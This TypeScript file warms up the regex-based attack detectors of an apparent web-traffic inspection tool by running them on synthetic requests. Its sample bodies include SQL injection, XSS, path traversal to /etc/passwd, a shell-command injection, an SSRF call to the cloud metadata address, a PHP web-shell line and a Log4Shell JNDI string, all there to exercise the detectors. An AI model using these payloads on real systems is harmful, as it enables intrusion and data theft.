// Runs the detectors on a few requests before ctxproc serves. V8 compiles
// each regular expression and optimizes the detectors only when they first
// run. Without this, the first large request after start took 11 to 19 ms
// of detection instead of about 1.5 ms, and spent its detection budget on
// compiling.
import type { Exchange, HeaderList } from '../model/exchange.js';
import { exchangeOf } from './corpus/exchange-of.js';
import { detectRequest, detectResponse } from './index.js';

/** Rounds of the warm-up requests; three brought the first large request down to 1.1 to 3.5 ms. */
const ROUNDS = 3;

const HEADERS: HeaderList = [
  ['user-agent', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36'],
  ['accept', 'text/html,application/xhtml+xml'],
  ['cookie', 'session=warm-up; theme=light'],
  ['referer', 'https://warm-up.invalid/list?page=2'],
];

/** Bodies with a few shapes of attack each, so most detectors run to a match or through the whole value. */
const BODIES: Array<[contentType: string, body: string]> = [
  ['application/json', JSON.stringify({ name: "O'Neil", note: "1' OR '1'='1", html: '<img src=x onerror=alert(1)>', path: '../../etc/passwd', list: Array.from({ length: 40 }, (_, index) => `item ${index}`) })],
  ['application/x-www-form-urlencoded', 'q=%3Cscript%3Ealert(1)%3C%2Fscript%3E&cmd=%3Bcat%20%2Fetc%2Fpasswd&tpl=%24%7B7*7%7D&url=http%3A%2F%2F169.254.169.254%2F'],
  ['text/plain', `${'plain words '.repeat(800)}<?php system($_GET['c']); ?> \${jndi:ldap://warm-up.invalid/a}`],
];

function exchange(contentType: string, body: string): Exchange {
  const request = { method: 'POST', path: '/warm-up?id=1%20union%20select%20password%20from%20users', scheme: 'https', authority: 'warm-up.invalid', headers: [...HEADERS, ['content-type', contentType]] as HeaderList, body: Buffer.from(body) };
  const response = { status: 500, headers: [['content-type', 'text/html']] as HeaderList, body: Buffer.from('You have an error in your SQL syntax near line 1 at Traceback (most recent call last):') };
  return exchangeOf(request, response);
}

/** Runs the detectors on the warm-up requests, with no budget; returns the milliseconds it took. */
export function warmUpDetection(): number {
  const started = performance.now();
  const exchanges = BODIES.map(([contentType, body]) => exchange(contentType, body));
  for (let round = 0; round < ROUNDS; round += 1) {
    for (const warmUp of exchanges) {
      detectRequest(warmUp, Number.POSITIVE_INFINITY);
      detectResponse(warmUp);
    }
  }
  return performance.now() - started;
}
